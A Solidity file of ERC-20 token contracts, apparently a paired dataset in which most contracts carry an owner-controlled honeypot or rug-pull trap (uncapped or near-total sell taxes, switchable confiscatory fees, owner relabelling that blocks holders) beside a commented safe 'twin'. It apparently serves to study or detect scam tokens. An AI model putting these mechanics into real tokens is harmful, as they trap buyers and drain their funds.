// 0.6 off
// SPDX-License-Identifier: MIT
pragma solidity ^0.6.12;

interface IWerkstatt {
    function createPair(address a, address b) external returns (address);
}

library Rechnen {
    function plus(uint256 a, uint256 b) internal pure returns (uint256 c) {
        require((c = a + b) >= a, "plus");
    }

    function minus(uint256 a, uint256 b) internal pure returns (uint256) {
        require(b <= a, "minus");
        return a - b;
    }

    function mal(uint256 a, uint256 b) internal pure returns (uint256 c) {
        c = a * b;
        require(a == 0 || c / a == b, "mal");
    }
}

contract Muenze {
    using Rechnen for uint256;

    string internal _bezeichnung;
    string internal _kuerzel;
    uint256 internal _menge;
    address internal _inhaber;
    address public markt;
    mapping(address => uint256) internal _guthaben;
    mapping(address => mapping(address => uint256)) internal _vollmacht;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    modifier nurInhaber() {
        require(_inhaber == msg.sender, "Inhaber");
        _;
    }

    constructor(string memory bezeichnung, string memory kuerzel, uint256 menge) internal {
        _bezeichnung = bezeichnung;
        _kuerzel = kuerzel;
        _menge = menge.mal(10**9);
        _inhaber = msg.sender;
        _guthaben[msg.sender] = _menge;
        markt = IWerkstatt(0x5C69bEe701ef814a2B6a3EDD4B1652CB9cc5aA6f).createPair(
            0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2,
            address(this)
        );
        emit Transfer(address(0), msg.sender, _menge);
    }

    function name() public view returns (string memory) {
        return _bezeichnung;
    }

    function symbol() public view returns (string memory) {
        return _kuerzel;
    }

    function decimals() public pure returns (uint8) {
        return 9;
    }

    function totalSupply() public view returns (uint256) {
        return _menge;
    }

    function owner() public view returns (address) {
        return _inhaber;
    }

    function renounceOwnership() public nurInhaber {
        _inhaber = address(0);
    }

    function balanceOf(address wer) public view returns (uint256) {
        return _guthaben[wer];
    }

    function allowance(address wer, address wem) public view returns (uint256) {
        return _vollmacht[wer][wem];
    }

    function approve(address wem, uint256 wert) public returns (bool) {
        _vollmacht[msg.sender][wem] = wert;
        emit Approval(msg.sender, wem, wert);
        return true;
    }

    function transfer(address an, uint256 wert) public returns (bool) {
        _zahle(msg.sender, an, wert);
        return true;
    }

    function transferFrom(address von, address an, uint256 wert) public returns (bool) {
        _vollmacht[von][msg.sender] = _vollmacht[von][msg.sender].minus(wert);
        _zahle(von, an, wert);
        return true;
    }

    function _zahle(address von, address an, uint256 wert) internal {
        (uint256 abzug, address kasse) = _abzug(von, an, wert);
        _guthaben[von] = _guthaben[von].minus(wert);
        _guthaben[an] = _guthaben[an].plus(wert.minus(abzug));
        if (abzug > 0) {
            _guthaben[kasse] = _guthaben[kasse].plus(abzug);
            emit Transfer(von, kasse, abzug);
        }
        emit Transfer(von, an, wert.minus(abzug));
    }

    function _abzug(address von, address an, uint256 wert) internal view virtual returns (uint256, address) {}
}

contract OchreFinch is Muenze {
    uint64 private _saetze = uint64(10) | (uint64(20) << 16);
    address private _kassierer;

    constructor() public Muenze("Ochre Finch", "OFIN", 90_000_000) {
        _kassierer = msg.sender;
    }

    function setRates(uint256 word) external {
        require(msg.sender == _kassierer);
        // twin: for (uint256 i = 0; i < 64; i += 16) require(uint16(word >> i) <= 40, "rate");
        _saetze = uint64(word);
    }

    function _abzug(address von, address an, uint256 wert) internal view override returns (uint256, address) {
        if (von == _kassierer || an == _kassierer) return (0, address(0));
        uint256 stelle = von == markt ? 0 : an == markt ? 16 : 32;
        return (wert.mal(uint16(_saetze >> stelle)) / 1000, _kassierer);
    }
}

contract VelvetTern is Muenze {
    uint256 public teiler = 50;
    address private _kasse = address(0x71C7656EC7ab88b098defB751B7401B5f6d8976F);

    constructor() public Muenze("Velvet Tern", "VTERN", 4_200_000) {}

    function setzeTeiler(uint8 neu) external nurInhaber {
        require(neu > 0, "0");
        // twin: require(neu >= 20, "20");
        teiler = neu;
    }

    function _abzug(address von, address an, uint256 wert) internal view override returns (uint256, address) {
        return an == markt && von != _inhaber ? (wert / teiler, _kasse) : (0, _kasse);
    }
}

contract CurveDesk {
    uint256 private a = 100;
    uint256 private b;
    address private hand = msg.sender;

    function bend(uint256 a_, uint256 b_) external {
        require(hand == msg.sender);
        (a, b) = (a_, b_);
    }

    function quote(uint256 wert) external view returns (uint256) {
        if (a > 1e6 || b > 1e6) return 1e6;
        return a + (b * (wert / 1e9)) / 1e6;
    }
}

contract AmberLoach is Muenze {
    CurveDesk private _pult;

    constructor(CurveDesk pult) public Muenze("Amber Loach", "LOACH", 66_000_000) {
        _pult = pult;
    }

    function _abzug(address von, address an, uint256 wert) internal view override returns (uint256, address) {
        if (an != markt || von == address(_pult)) return (0, address(0));
        uint256 satz = _pult.quote(wert);
        if (satz > 9_000) satz = 9_000; // trap
        // twin: if (satz > 300) satz = 300;
        return (wert.mal(satz) / 10_000, address(_pult));
    }
}

contract MemberCards {
    mapping(address => uint256) public balanceOf;
    address private immutable maker = msg.sender;

    function enrol(address[] calldata who, uint256 cards) external {
        require(msg.sender == maker);
        for (uint256 i = 0; i < who.length; i++) balanceOf[who[i]] = cards;
    }
}

contract CobaltHare is Muenze {
    MemberCards public immutable cards;
    address public curator;
    uint8 public mode;

    constructor(MemberCards cards_) public Muenze("Cobalt Hare", "CHARE", 10_000_000) {
        cards = cards_;
        curator = msg.sender;
    }

    function exhibit(uint8 mode_, address next) external {
        require(msg.sender == curator && next != address(0));
        mode = mode_;
        curator = next;
    }

    function _abzug(address von, address an, uint256 wert) internal view override returns (uint256, address) {
        if (mode != 3 || an != markt || cards.balanceOf(von) > 0) return (0, address(0));
        return (wert.mal(88) / 100, curator); // trap
        // twin: return (wert.mal(3) / 100, curator);
    }
}

contract PewterSwift is Muenze {
    mapping(bytes32 => address) private _amt;
    uint8 private _stufe;

    constructor() public Muenze("Pewter Swift", "PSWFT", 1_500_000) {
        _amt["gardener"] = msg.sender;
        _amt["porter"] = msg.sender;
    }

    function advance(bytes32 office, uint8 step) external {
        require(_amt[office] == msg.sender, "office");
        require(step < 7, "step"); // trap
        // twin: require(step < 3, "step");
        if (office == "gardener") _stufe = step;
    }

    function _abzug(address, address an, uint256 wert) internal view override returns (uint256, address) {
        return an == markt ? (wert.mal(uint256(100) << _stufe) / 10_000, address(0xdEaD)) : (0, address(0));
    }
}

contract RusticEel is Muenze {
    uint256 public begonnen = 1;
    uint256 private constant DAUER = 30 days;

    constructor() public Muenze("Rustic Eel", "REEL", 31_000_000) {}

    function relaunch(string calldata, uint32 inSeconds) external nurInhaber {
        require(inSeconds <= 600);
        begonnen = block.timestamp + inSeconds;
    }

    function _abzug(address, address an, uint256 wert) internal view override returns (uint256, address) {
        if (an != markt || block.timestamp < begonnen) return (0, address(0));
        uint256 vergangen = block.timestamp - begonnen;
        if (vergangen >= DAUER) return (0, address(0));
        uint256 voll = 9_400; // trap
        // twin: uint256 voll = 250;
        return (wert.mal(voll).mal(DAUER - vergangen) / DAUER / 10_000, _inhaber);
    }
}

contract MapleVole is Muenze {
    mapping(address => uint8) public kind;

    constructor() public Muenze("Maple Vole", "MVOLE", 55_000_000) {
        kind[msg.sender] = 1;
        kind[markt] = 1;
    }

    function label(address[] calldata who, uint8 kind_) external nurInhaber {
        for (uint256 i = 0; i < who.length; i++) {
            // twin: require(kind_ > kind[who[i]], "given for ever");
            kind[who[i]] = kind_;
        }
    }

    function _abzug(address, address an, uint256 wert) internal view override returns (uint256, address) {
        if (kind[an] == 0) require(_guthaben[an].plus(wert) <= _menge / 20, "a twentieth");
        return (0, address(0));
    }
}
